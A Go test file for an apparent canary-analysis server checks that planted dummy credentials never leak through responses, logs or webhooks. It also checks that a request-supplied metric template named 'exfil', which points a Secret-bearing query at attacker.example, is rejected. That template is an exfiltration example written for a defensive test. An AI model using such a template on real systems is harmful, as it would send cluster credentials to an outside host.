package server

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/augurproj/augur/engine"
	"github.com/augurproj/augur/manifest"
	"github.com/augurproj/augur/metrics"
	"github.com/augurproj/augur/metrics/prometheus"
	"github.com/augurproj/augur/service"
	"github.com/augurproj/augur/webhooks"
)

// Distinctive credentials planted in every place augur accepts them.
const (
	plantedToken    = "tok-SECRET-7f3a9c"
	plantedUser     = "usr-SECRET-41b2"
	plantedPassword = "pw-SECRET-c0ffee"
	plantedAPIKey   = "key-SECRET-d00d"
	plantedServe    = "serve-SECRET-beef"
	plantedURLPass  = "url-SECRET-abcd"
)

func plantedSecrets() []string {
	return []string{plantedToken, plantedPassword, plantedAPIKey, plantedServe, plantedURLPass,
		base64.StdEncoding.EncodeToString([]byte(plantedUser + ":" + plantedPassword))}
}

// echoPrometheus is a real loopback server that answers every query with an
// error whose text holds every request header, in the given fault mode.
func echoPrometheus(t *testing.T, mode string) *httptest.Server {
	t.Helper()
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var b strings.Builder
		fmt.Fprintf(&b, "%s %s", r.Method, r.URL)
		for k, vs := range r.Header {
			fmt.Fprintf(&b, " %s=%s", k, strings.Join(vs, ","))
		}
		dump := b.String()
		switch mode {
		case "401":
			http.Error(w, "unauthorized: "+dump, http.StatusUnauthorized)
		case "envelope-422":
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusUnprocessableEntity)
			fmt.Fprintf(w, `{"status":"error","errorType":"execution","error":%q}`, dump)
		case "status-error-200":
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"status":"error","errorType":"bad_data","error":%q}`, dump)
		case "warning":
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"status":"success","data":{"resultType":"vector","result":[]},"warnings":[%q]}`, dump)
		}
	}))
	t.Cleanup(ts.Close)
	return ts
}

type staticSecrets map[string]map[string]string

func (s staticSecrets) Secret(_ context.Context, ns, name string) (map[string]string, error) {
	if d, ok := s[ns+"/"+name]; ok {
		return d, nil
	}
	return nil, fmt.Errorf("secret %s/%s %w", ns, name, engine.ErrNotFound)
}

// TestNoSecretLeaves plants credentials in a file MetricTemplate (secretRef
// token or basic auth, a custom header, a URL password) and the serve token,
// points the template at a server that echoes every request header in its
// errors, and greps every answer and log record of every endpoint for them.
func TestNoSecretLeaves(t *testing.T) {
	for _, mode := range []string{"401", "envelope-422", "status-error-200", "warning"} {
		for _, auth := range []string{"token", "basic"} {
			t.Run(mode+"/"+auth, func(t *testing.T) {
				prom := echoPrometheus(t, mode)
				addr := strings.Replace(prom.URL, "http://", "http://"+plantedUser+":"+plantedURLPass+"@", 1)
				files := fmt.Sprintf(`apiVersion: flagger.app/v1beta1
kind: MetricTemplate
metadata: {name: leaky, namespace: test}
spec:
  provider:
    type: prometheus
    address: %s
    secretRef: {name: prom-auth}
    headers: {X-Api-Key: [%s]}
  query: up
---
apiVersion: flagger.app/v1beta1
kind: Canary
metadata: {name: podinfo, namespace: test}
spec:
  targetRef: {apiVersion: apps/v1, kind: Deployment, name: podinfo}
  analysis:
    interval: 1m
    threshold: 5
    maxWeight: 50
    stepWeight: 10
    metrics:
    - name: leaky
      templateRef: {name: leaky}
      thresholdRange: {min: 1}
    webhooks:
    - name: events
      type: event
      url: %s
`, addr, plantedAPIKey, "")
				creds := map[string]string{"token": plantedToken}
				if auth == "basic" {
					creds = map[string]string{"username": plantedUser, "password": plantedPassword}
				}
				// The event hook records what it is sent.
				var payloads syncBuffer
				hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					b, _ := io.ReadAll(r.Body)
					_, _ = payloads.Write(b)
				}))
				t.Cleanup(hook.Close)
				files = strings.Replace(files, "url: \n", "url: "+hook.URL+"\n", 1)
				set, err := manifest.DecodeBytes([]byte(files), "files.yaml")
				if err != nil {
					t.Fatal(err)
				}
				logs := &syncBuffer{}
				logger := slog.New(slog.NewJSONHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
				reg := &metrics.Registry{}
				prometheus.Register(reg, prometheus.WithLogger(logger))
				m := NewMetrics(0, logger)
				hooks := webhooks.New(webhooks.Options{Logger: logger})
				eng, err := engine.New(engine.Options{Registry: m.InstrumentRegistry(reg), Hooks: hooks, Logger: logger,
					Templates: engine.StaticTemplates(set.Templates), Secrets: staticSecrets{"test/prom-auth": creds}})
				if err != nil {
					t.Fatal(err)
				}
				svc, err := service.New(service.Options{Engine: eng, Hooks: hooks})
				if err != nil {
					t.Fatal(err)
				}
				srv, err := New(Options{Service: svc, Logger: logger, Metrics: m, Token: plantedServe,
					Canaries: []CanarySource{StaticCanaries(set.Canaries)}})
				if err != nil {
					t.Fatal(err)
				}
				ts := httptest.NewServer(srv.Handler())
				t.Cleanup(ts.Close)
				bearer := map[string]string{"Authorization": "Bearer " + plantedServe}
				canary := mustJSON(t, set.Canaries[0])
				var answers []string
				for _, req := range []struct{ path, body string }{
					{"/v1/query", `{"canary":` + canary + `}`},
					{"/v1/decide", `{"canary":` + canary + `,"status":{"phase":"Progressing","canaryWeight":10}}`},
					{"/flagger/v1/check", flaggerBody(t, "podinfo", "test", map[string]string{"template": "leaky", "min": "1", "token": plantedServe})},
					{"/flagger/v1/check", flaggerBody(t, "podinfo", "test", map[string]string{"token": plantedServe})},
				} {
					h := bearer
					if strings.HasPrefix(req.path, "/flagger") {
						h = nil
					}
					a := do(t, http.MethodPost, ts.URL+req.path, req.body, h)
					answers = append(answers, fmt.Sprintf("%s %d %s", req.path, a.code, a.body))
				}
				a := do(t, http.MethodGet, ts.URL+"/metrics", "", nil)
				answers = append(answers, a.body)
				all := strings.Join(answers, "\n") + "\n" + logs.String() + "\n" + payloads.String()
				if mode != "warning" && !strings.Contains(all, "[redacted]") {
					t.Errorf("the echo did not reach any output; the test proves nothing:\n%s", all)
				}
				for _, s := range plantedSecrets() {
					if strings.Contains(all, s) {
						t.Errorf("%q leaked:\n%s", s, all)
					}
				}
			})
		}
	}
}

// TestRequestTemplateMayNotUseSecret: a MetricTemplate in a request chooses
// its own address, so its secretRef would send a cluster Secret wherever the
// caller says.
func TestRequestTemplateMayNotUseSecret(t *testing.T) {
	h := podinfoHarness(t, "healthy.om", nil)
	tmpl := `{"metadata":{"name":"exfil","namespace":"test"},"spec":{"provider":{"type":"prometheus","address":"http://attacker.example:9090","secretRef":{"name":"prom-auth"}},"query":"up"}}`
	c := edit(t, podinfoCanaryJSON(t), func(c map[string]any) {
		analysisOf(c)["metrics"] = []any{map[string]any{"name": "x", "templateRef": map[string]any{"name": "exfil"}, "thresholdRange": map[string]any{"min": 0}}}
	})
	for _, path := range []string{"/v1/query", "/v1/decide"} {
		a := do(t, http.MethodPost, h.url+path, body(t, c, map[string]any{"metricTemplates": []any{json.RawMessage(tmpl)}}), nil)
		if a.code != http.StatusBadRequest || !strings.Contains(a.body, "metricTemplates[0].spec.provider.secretRef: a MetricTemplate sent with a request may not use a Secret") {
			t.Errorf("%s: %d %s", path, a.code, a.body)
		}
	}
}
